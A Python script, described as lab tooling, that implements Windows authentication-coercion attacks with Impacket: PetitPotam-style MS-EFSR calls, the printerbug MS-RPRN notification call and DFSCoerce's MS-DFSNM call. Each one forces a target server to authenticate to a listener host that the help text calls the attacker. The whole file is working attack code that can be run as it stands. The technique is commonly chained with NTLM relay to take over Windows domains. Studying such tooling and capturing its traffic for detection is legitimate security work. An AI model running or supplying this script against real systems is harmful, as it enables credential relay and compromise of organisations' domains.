#!/usr/bin/python3
"""Authentication-coercion calls made with Impacket's DCE/RPC classes (lab tooling).

The same calls the public coercion tools make (PetitPotam, printerbug/SpoolSample, DFSCoerce), each
naming a UNC path on the listener, sent to a target over SMB named pipes:

  efsr-lsarpc   MS-EFSR EfsRpcOpenFileRaw (opnum 0) on c681d488-d850-11d0-8c52-00c04fd90f7e over \\pipe\\lsarpc
  efsr-efsrpc   MS-EFSR EfsRpcOpenFileRaw (opnum 0) on df1941c5-fe89-4e79-bf10-463657acf44d over \\pipe\\efsrpc
  efsr-encrypt  MS-EFSR EfsRpcEncryptFileSrv (opnum 4) over \\pipe\\lsarpc
  rprn          MS-RPRN RpcOpenPrinter + RpcRemoteFindFirstPrinterChangeNotificationEx (opnum 65) over \\pipe\\spoolss
  dfsnm         MS-DFSNM NetrDfsRemoveStdRoot (opnum 13) over \\pipe\\netdfs

Every step prints what the server answered; a refusal (bind rejected, pipe absent, fault) is a
result, not an error: the traffic up to it is what the capture is for.
"""
import argparse
import sys

from impacket.dcerpc.v5 import transport
from impacket.dcerpc.v5.dtypes import LONG, WSTR, ULONG, NULL
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.uuid import uuidtup_to_bin

EFSR_LSARPC = ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")
EFSR_EFSRPC = ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")
DFSNM = ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")


class EfsRpcOpenFileRaw(NDRCALL):
    """MS-EFSR 3.1.4.2.1."""
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", LONG))


class EfsRpcEncryptFileSrv(NDRCALL):
    """MS-EFSR 3.1.4.2.5."""
    opnum = 4
    structure = (("FileName", WSTR),)


class NetrDfsRemoveStdRoot(NDRCALL):
    """MS-DFSNM 3.1.4.4.4."""
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", ULONG))


def connect(a, pipe):
    t = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\%s]" % (a.target, pipe))
    t.set_credentials(a.user, a.password, a.domain, "", a.nthash or "")
    t.set_connect_timeout(10)
    dce = t.get_dce_rpc()
    dce.connect()
    return dce


def call(a, pipe, iface, req, what):
    print("[*] %s: \\pipe\\%s, interface %s v%s" % (what, pipe, iface[0], iface[1]))
    try:
        dce = connect(a, pipe)
    except Exception as e:
        print("[-]   SMB/pipe open failed: %s" % e)
        return
    try:
        dce.bind(uuidtup_to_bin(iface))
        print("[+]   bound")
    except Exception as e:
        print("[-]   bind refused: %s" % e)
        dce.disconnect()
        return
    try:
        dce.request(req)
        print("[+]   call answered without fault")
    except Exception as e:
        print("[-]   call answered: %s" % e)
    dce.disconnect()


def rprn(a):
    from impacket.dcerpc.v5 import rprn as r
    print("[*] MS-RPRN: \\pipe\\spoolss, RpcOpenPrinter + RpcRemoteFindFirstPrinterChangeNotificationEx")
    try:
        dce = connect(a, "spoolss")
        dce.bind(r.MSRPC_UUID_RPRN)
        print("[+]   bound")
    except Exception as e:
        print("[-]   refused: %s" % e)
        return
    try:
        resp = r.hRpcOpenPrinter(dce, "\\\\%s\x00" % a.target)
        print("[+]   RpcOpenPrinter: handle")
    except Exception as e:
        print("[-]   RpcOpenPrinter answered: %s" % e)
        dce.disconnect()
        return
    try:
        req = r.RpcRemoteFindFirstPrinterChangeNotificationEx()
        req["hPrinter"] = resp["pHandle"]
        req["fdwFlags"] = r.PRINTER_CHANGE_ADD_JOB
        req["pszLocalMachine"] = "\\\\%s\x00" % a.listener
        req["pOptions"] = NULL
        dce.request(req)
        print("[+]   RpcRemoteFindFirstPrinterChangeNotificationEx answered without fault")
    except Exception as e:
        print("[-]   RpcRemoteFindFirstPrinterChangeNotificationEx answered: %s" % e)
    dce.disconnect()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("-u", "--user", required=True)
    ap.add_argument("-p", "--password", default="")
    ap.add_argument("-d", "--domain", default="")
    ap.add_argument("--nthash", default="")
    ap.add_argument("--listener", required=True, help="host named in the UNC path (the attacker)")
    ap.add_argument("--target", required=True, help="server to coerce")
    ap.add_argument("methods", nargs="+", choices=["efsr-lsarpc", "efsr-efsrpc", "efsr-encrypt", "rprn", "dfsnm"])
    a = ap.parse_args()
    unc = "\\\\%s\\share\\file.txt\x00" % a.listener
    for m in a.methods:
        if m == "efsr-lsarpc":
            req = EfsRpcOpenFileRaw()
            req["FileName"] = unc
            req["Flags"] = 0
            call(a, "lsarpc", EFSR_LSARPC, req, "MS-EFSR EfsRpcOpenFileRaw")
        elif m == "efsr-efsrpc":
            req = EfsRpcOpenFileRaw()
            req["FileName"] = unc
            req["Flags"] = 0
            call(a, "efsrpc", EFSR_EFSRPC, req, "MS-EFSR EfsRpcOpenFileRaw")
        elif m == "efsr-encrypt":
            req = EfsRpcEncryptFileSrv()
            req["FileName"] = unc
            call(a, "lsarpc", EFSR_LSARPC, req, "MS-EFSR EfsRpcEncryptFileSrv")
        elif m == "rprn":
            rprn(a)
        elif m == "dfsnm":
            req = NetrDfsRemoveStdRoot()
            req["ServerName"] = "%s\x00" % a.listener
            req["RootShare"] = "test\x00"
            req["ApiFlags"] = 1
            call(a, "netdfs", DFSNM, req, "MS-DFSNM NetrDfsRemoveStdRoot")
    return 0


if __name__ == "__main__":
    sys.exit(main())
